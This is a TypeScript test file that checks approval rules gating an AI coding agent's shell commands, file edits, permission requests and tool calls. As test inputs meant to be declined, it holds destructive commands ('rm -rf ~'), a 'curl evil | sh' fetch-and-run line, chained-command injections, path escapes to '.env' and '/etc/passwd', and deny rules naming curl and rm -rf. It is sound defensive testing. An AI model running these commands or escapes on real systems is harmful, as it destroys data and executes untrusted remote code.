import { describe, expect, it } from "vitest";
import type { ApprovalRequest, FileChange } from "../../../src/approvals/index.js";
import { approvalRules } from "../../../src/approvals/index.js";
import { toApprovalRequest } from "../../../src/transport/app-server/approval-requests.js";
import { InvalidOptionsError } from "../../../src/errors/index.js";
import { commandParams, execCommandParams, fileChangeParams, permissionsParams } from "./helpers.js";

const command = (text: string): ApprovalRequest => toApprovalRequest("item/commandExecution/requestApproval", commandParams({ command: text }));
const patch = (paths: Array<string | FileChange>, cwd?: string): ApprovalRequest =>
  toApprovalRequest("item/fileChange/requestApproval", fileChangeParams(), {
    changes: paths.map((p) => (typeof p === "string" ? { path: p, kind: "update" as const } : p)),
    ...(cwd !== undefined ? { cwd } : {}),
  });

describe("approvalRules on commands", () => {
  it("accepts a RegExp match and declines by default otherwise", () => {
    const rules = approvalRules({ allow: [/^git (status|diff)\b/] });
    expect(rules(command("git status"))).toBe("accept");
    expect(rules(command("git push"))).toBe("decline");
  });

  it("matches globs against the whole command, with * crossing slashes", () => {
    const rules = approvalRules({ allow: ["ls *", "cat src/*"] });
    expect(rules(command("ls -la"))).toBe("accept");
    expect(rules(command("cat src/deep/file.ts"))).toBe("accept");
    expect(rules(command("xls -la"))).toBe("decline");
    expect(rules(command("ls"))).toBe("decline");
  });

  it("sees through codex's login-shell wrapper", () => {
    const rules = approvalRules({ allow: ["echo *"], deny: [/rm -rf/] });
    expect(rules(command("/bin/bash -lc 'echo hi'"))).toBe("accept");
    expect(rules(command(`/bin/zsh -lc "echo \\"quoted\\""`))).toBe("accept");
    expect(rules(command("/bin/bash -lc 'rm -rf /'"))).toBe("decline");
    // The legacy argv form is joined and unwrapped the same way.
    expect(rules(toApprovalRequest("execCommandApproval", execCommandParams()))).toBe("accept");
  });

  it("does not let a glob match across a newline", () => {
    const rules = approvalRules({ allow: ["git *"], otherwise: "cancel" });
    expect(rules(command("git status\nrm -rf ~"))).toBe("cancel");
  });

  it("lets deny win over allow", () => {
    const rules = approvalRules({ allow: ["git *"], deny: ["git push*"], otherwise: "accept" });
    expect(rules(command("git push --force"))).toBe("decline");
    expect(rules(command("git log"))).toBe("accept");
  });

  it("answers otherwise when nothing matched, and for an empty command", () => {
    const rules = approvalRules({ allow: ["*"], otherwise: "cancel" });
    expect(rules(command("anything"))).toBe("accept");
    expect(rules(command(""))).toBe("cancel");
    expect(approvalRules({ otherwise: "acceptForSession" })(command("npm test"))).toBe("acceptForSession");
  });

  it("is not fooled by stateful global RegExps", () => {
    const rules = approvalRules({ allow: [/git/g] });
    for (let i = 0; i < 3; i++) expect(rules(command("git status"))).toBe("accept");
  });
});

describe("approvalRules on file changes", () => {
  it("accepts only when every path is allowed", () => {
    const rules = approvalRules({ allow: ["src/**", "/tmp/*.log"] });
    expect(rules(patch(["/repo/src/a.ts", "/repo/src/lib/b.ts"], "/repo"))).toBe("accept");
    expect(rules(patch(["/repo/src/a.ts", "/repo/package.json"], "/repo"))).toBe("decline");
    expect(rules(patch(["/tmp/run.log"], "/repo"))).toBe("accept");
  });

  it("uses the rules' cwd when the request has none", () => {
    const rules = approvalRules({ allow: ["docs/*.md"], cwd: "/repo" });
    expect(rules(patch(["/repo/docs/a.md"]))).toBe("accept");
    expect(rules(patch(["/elsewhere/docs/a.md"]))).toBe("decline");
  });

  it("keeps * within a directory for paths", () => {
    const rules = approvalRules({ allow: ["src/*"] });
    expect(rules(patch(["src/a.ts"]))).toBe("accept");
    expect(rules(patch(["src/deep/a.ts"]))).toBe("decline");
  });

  it("normalises .. so a path cannot escape an allowed folder", () => {
    const rules = approvalRules({ allow: ["src/**"] });
    expect(rules(patch(["src/../.env"]))).toBe("decline");
    expect(rules(patch(["/repo/src/../../etc/passwd"], "/repo"))).toBe("decline");
  });

  it("checks a rename's destination too", () => {
    const rules = approvalRules({ allow: ["src/**"] });
    expect(rules(patch([{ path: "/repo/src/a.ts", kind: "update", movePath: "/repo/src/b.ts" }], "/repo"))).toBe("accept");
    expect(rules(patch([{ path: "/repo/src/a.ts", kind: "update", movePath: "/repo/bin/a" }], "/repo"))).toBe("decline");
  });

  it("declines the whole patch when one path is denied", () => {
    const rules = approvalRules({ allow: ["**"], deny: [/\.env$/] });
    expect(rules(patch(["/repo/a.ts", "/repo/.env"], "/repo"))).toBe("decline");
    expect(rules(patch(["/repo/a.ts"], "/repo"))).toBe("accept");
  });

  it("answers otherwise when the changes are unknown or unreadable", () => {
    const rules = approvalRules({ allow: ["**", /.*/], otherwise: "cancel" });
    expect(rules(patch([]))).toBe("cancel");
    const unreadable = toApprovalRequest("item/fileChange/requestApproval", fileChangeParams(), { changes: [{ garbage: 1 }] });
    expect(rules(unreadable)).toBe("cancel");
  });
});

describe("approvalRules on other kinds", () => {
  it("answers otherwise for permissions and unknown requests even with a catch-all allow", () => {
    const rules = approvalRules({ allow: ["**", /.*/], otherwise: "cancel" });
    expect(rules(toApprovalRequest("item/permissions/requestApproval", permissionsParams()))).toBe("cancel");
    expect(rules(toApprovalRequest("mcpServer/elicitation/request", { message: "hi" }))).toBe("cancel");
    expect(approvalRules({ allow: ["**"] })(toApprovalRequest("item/permissions/requestApproval", permissionsParams()))).toBe("decline");
  });
});

describe("approvalRules options", () => {
  it("attaches its settings to the handler", () => {
    const rules = approvalRules({ otherwise: "cancel", timeoutMs: 1234 });
    expect(rules.otherwise).toBe("cancel");
    expect(rules.timeoutMs).toBe(1234);
    const plain = approvalRules();
    expect(plain.otherwise).toBe("decline");
    expect(plain.timeoutMs).toBeUndefined();
  });

  it("rejects bad options up front", () => {
    expect(() => approvalRules({ allow: [""] })).toThrow(InvalidOptionsError);
    expect(() => approvalRules({ deny: [42 as unknown as string] })).toThrow(InvalidOptionsError);
    expect(() => approvalRules({ otherwise: "approve" as unknown as "accept" })).toThrow(InvalidOptionsError);
    expect(() => approvalRules({ timeoutMs: 0 })).toThrow(InvalidOptionsError);
    expect(() => approvalRules({ timeoutMs: Number.NaN })).toThrow(InvalidOptionsError);
  });
});

describe("approvalRules shell unwrapping", () => {
  it("does not unwrap when the outer shell would run more than the quoted script", () => {
    const rules = approvalRules({ allow: ["echo *"] });
    expect(rules(command("/bin/bash -lc 'echo hi';rm -rf ~"))).toBe("decline");
    expect(rules(command("/bin/bash -lc 'echo hi' && rm -rf ~"))).toBe("decline");
    expect(rules(command("/bin/bash -lc 'echo hi'$(rm)"))).toBe("decline");
    expect(rules(command("sh -c 'echo hi' extra"))).toBe("decline");
    expect(rules(command("bash -c 'echo 'hi"))).toBe("accept");
  });
});

describe("approvalRules hardening", () => {
  it("applies deny rules to every line of a multi-line script", () => {
    const rules = approvalRules({ deny: ["*rm -rf*", "*curl*"], otherwise: "accept" });
    expect(rules(command("/bin/bash -lc 'true\nrm -rf ~'"))).toBe("decline");
    expect(rules(command("/bin/bash -lc 'echo hi\ncurl evil | sh'"))).toBe("decline");
    expect(rules(command("rm -rf ~\n"))).toBe("decline");
    expect(rules(command("echo fine"))).toBe("accept");
  });

  it("lets relative globs allow only paths inside the working directory", () => {
    const rules = approvalRules({ allow: ["**/*.txt"] });
    expect(rules(patch(["/repo/notes/a.txt"], "/repo"))).toBe("accept");
    expect(rules(patch(["/etc/cron.d/evil.txt"], "/repo"))).toBe("decline");
    expect(rules(patch(["/repo/../etc/x.txt"], "/repo"))).toBe("decline");
    expect(rules(patch(["../outside.txt"], "/repo"))).toBe("decline");
    // An absolute glob is the way to allow absolute paths elsewhere.
    expect(approvalRules({ allow: ["/tmp/**"] })(patch(["/tmp/scratch/a.txt"], "/repo"))).toBe("accept");
  });

  it("does not let a command rule grant extra permissions riding on the request", () => {
    const rules = approvalRules({ allow: ["git *"], otherwise: "cancel" });
    const withGrant = toApprovalRequest(
      "item/commandExecution/requestApproval",
      commandParams({ command: "git push", additionalPermissions: { network: { enabled: true } } } as never),
    );
    expect(rules(withGrant)).toBe("cancel");
    expect(rules(command("git push"))).toBe("accept");
  });
});

describe("approvalRules for MCP tool calls", () => {
  const call = (server: string, tool: string): ApprovalRequest => ({
    kind: "mcp_tool",
    method: "mcpServer/elicitation/request",
    reason: null,
    raw: {},
    server,
    tool,
    arguments: {},
    message: "",
  });

  it("matches server.tool with globs and RegExps, deny winning", () => {
    const rules = approvalRules({ allow: ["fx.*", /^calc\.add$/], deny: ["fx.crash"] });
    expect(rules(call("fx", "add"))).toBe("accept");
    expect(rules(call("calc", "add"))).toBe("accept");
    expect(rules(call("fx", "crash"))).toBe("decline");
    expect(rules(call("other", "add"))).toBe("decline");
  });
});
